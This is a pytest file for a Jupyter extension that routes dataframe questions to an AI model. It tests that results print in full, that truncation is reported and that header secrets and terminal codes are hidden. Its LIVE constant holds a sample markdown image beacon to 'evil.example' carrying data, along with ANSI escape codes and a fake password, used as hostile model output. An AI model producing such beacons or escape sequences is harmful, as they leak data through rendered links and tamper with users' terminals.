"""What commands and results print: nothing live, nothing hidden, no secret, and all of a value."""

from __future__ import annotations

import io
import json
from datetime import datetime
from pathlib import Path

import pandas as pd
import polars as pl
import pytest
from IPython.core.formatters import DisplayFormatter
from IPython.core.interactiveshell import InteractiveShell

from dpa_jupyter.notebook.view.terminal_view import TerminalView
from dpa_jupyter.result import Result
from tests.support.openai_answers import Answer, answer, call_by_character, words
from tests.support.openai_server import OpenAIServer
from tests.support.scripted_run import DOT
from tests.support.scripted_run import churn as churn_run

LIVE = "![x](https://evil.example/?d=7043) \x1b[31mred\x1b[0m password=hunter22"


def asked(shell: InteractiveShell, *script: Answer) -> Result:
    """Have a model of this script answer, and return what `_dpa` is."""
    with OpenAIServer(script) as server:
        shell.run_cell(f"%config Dpa.api_base = {server.url!r}")
        shell.run_cell("%%dpa -m openai/any look")
    found = shell.user_ns["_dpa"]
    assert isinstance(found, Result)
    return found


@pytest.mark.parametrize("library", [pd, pl], ids=["pandas", "polars"])
@pytest.mark.parametrize(
    ("sql", "value"),
    [
        ("SELECT repeat('x', 500) AS t FROM df LIMIT 1", "x" * 500),
        ("SELECT 1.23456789012345::DOUBLE AS n FROM df LIMIT 1", 1.23456789012345),
        ("SELECT TIMESTAMP '2024-02-03 04:05:06' AS t FROM df LIMIT 1", datetime(2024, 2, 3, 4, 5, 6)),  # noqa: DTZ001
        ("SELECT NULL::INTEGER AS n FROM df LIMIT 1", None),
    ],
)
def test_a_single_value_is_whole(loaded: InteractiveShell, library: object, sql: str, value: object) -> None:
    loaded.user_ns["df"] = pd.DataFrame({"a": [1]}) if library is pd else pl.DataFrame({"a": [1]})
    call = answer(*call_by_character("query_sql", json.dumps({"sql": sql})), finish="tool_calls")
    assert asked(loaded, call, answer(*words("Done."))).value == value


def test_an_answer_is_harmless_wherever_its_result_is_shown(churn: InteractiveShell) -> None:
    result = asked(churn, answer(*words(LIVE)))
    shown, _ = DisplayFormatter().format(result)
    for text in (shown["text/markdown"], shown["text/plain"], repr(result)):
        assert "\x1b" not in text
        assert "hunter22" not in text
    assert "![" not in shown["text/markdown"]


@pytest.mark.parametrize(("finish", "said"), [("length", "max_output_tokens"), ("content_filter", "content filter")])
def test_an_answer_that_was_cut_is_said_to_be(
    churn: InteractiveShell, capsys: pytest.CaptureFixture[str], finish: str, said: str
) -> None:
    churn.run_cell("%config Dpa.display = 'text'")
    assert asked(churn, answer(*words("The half"), finish=finish)).status == "finished"
    assert said in capsys.readouterr().out


def test_names_of_columns_bring_no_terminal_codes(loaded: InteractiveShell, capsys: pytest.CaptureFixture[str]) -> None:
    loaded.user_ns["df"] = pd.DataFrame({"e\x1b[31mmail": [f"someone{n}@example.org" for n in range(20)]})
    loaded.run_cell("%dpa sensitive")
    printed = capsys.readouterr().out
    assert "mail" in printed
    assert "\x1b" not in printed


@pytest.mark.parametrize("command", ["%dpa status", "%dpa config", "%dpa config headers", "%config Dpa"])
def test_what_a_header_holds_is_not_printed(
    loaded: InteractiveShell, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    loaded.run_cell("%config Dpa.headers = {'Authorization': 'Bearer abcdef'}")
    loaded.run_cell(command)
    printed = capsys.readouterr().out
    assert "Authorization" in printed
    assert "abcdef" not in printed


@pytest.mark.parametrize("line", ["%dpa how many rows are in df?", "%dpa sensitive"])
def test_a_damaged_file_of_the_notebook_is_one_line(
    churn: InteractiveShell, capsys: pytest.CaptureFixture[str], tmp_path: Path, line: str
) -> None:
    churn.run_cell("%dpa sensitive df.churn")
    (marks,) = tmp_path.glob(".dpa/*/sensitive.json")
    marks.write_text("{")
    capsys.readouterr()
    assert not churn.run_cell(line).success
    (said,) = capsys.readouterr().err.splitlines()
    assert "sensitive.json" in said


def test_columns_of_several_words_are_marked_and_unmarked(
    loaded: InteractiveShell, capsys: pytest.CaptureFixture[str]
) -> None:
    loaded.user_ns["df"] = pd.DataFrame({"Customer Full Name": ["a"], "first name": ["b"]})
    assert loaded.run_cell("%dpa sensitive Customer Full Name").success
    assert loaded.run_cell("%dpa sensitive not df.first name").success
    assert capsys.readouterr().out.splitlines() == [
        "Customer Full Name is masked from now on",
        "df.first name is no longer masked",
    ]


def test_a_terminal_that_can_not_write_every_character_gets_the_rest() -> None:
    written = io.BytesIO()
    view = TerminalView(io.TextIOWrapper(written, encoding="ascii"))
    for event in churn_run(DOT):
        view.show(event)
    view.close()
    assert b"? " in written.getvalue()
